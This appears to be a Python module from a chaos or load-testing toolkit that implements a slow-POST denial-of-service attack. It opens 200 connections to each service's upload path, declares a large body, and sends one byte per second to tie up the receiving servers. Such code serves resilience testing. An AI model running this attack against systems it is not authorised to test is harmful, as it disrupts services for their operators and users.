"""Uploads that send a byte a second: each holds what receives it for as long as it is believed."""

import socket

from loadtest.chaos.attacks.connections import Client, crowd, drip
from loadtest.chaos.attacks.model import Tally, Target

CONNECTIONS = 200
EVERY = 1.0  # seconds between two bytes
DECLARED = 1_000_000  # bytes: less than each service's limit


async def attack(target: Target, seconds: float) -> Tally:
    """Upload to all services in turn."""

    def client(which: int, tally: Tally) -> Client:
        path = target.prefixes[which % len(target.prefixes)]
        head = f"POST {path}/upload HTTP/1.1\r\nContent-Length: {DECLARED}\r\nHost: ".encode() + target.authority + b"\r\n\r\n"

        async def slow(sock: socket.socket) -> None:
            await drip(sock, tally, head, b"x", EVERY)

        return slow

    return await crowd(target, seconds, client, CONNECTIONS)
